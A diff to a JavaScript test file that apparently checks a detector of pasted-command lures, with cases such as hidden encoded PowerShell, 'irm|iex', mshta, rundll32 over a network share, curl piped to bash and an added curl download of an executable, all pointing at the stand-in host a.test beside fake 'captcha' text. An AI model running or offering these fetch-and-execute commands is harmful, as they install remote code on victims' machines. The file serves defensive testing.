@@ -10,6 +10,7 @@ describe('commands', () => {
     ['a hidden window behind a button that says Install', copies('powershell -w hidden -enc SQBFAFgA', `btn.title='Install';`)],
     ['a remark behind it', copies('mshta http://a.test/a.hta # install')],
     ['its address', copies('powershell -w hidden -c "irm https://a.test/install.ps1|iex"')],
+    ['its name', copies('cmd /c curl https://a.test/install.exe -o a.exe')],
     ['its file', copies('rundll32 \\\\a.test\\install.dll,x')],
     ['a remark behind a quick one', copies('powershell -c "irm a.test|iex" # install the update', `x='captcha';`)],
     ['a word for people', copies('curl -fsSL https://a.test/install.sh | bash', `x='I am not a robot';`)],
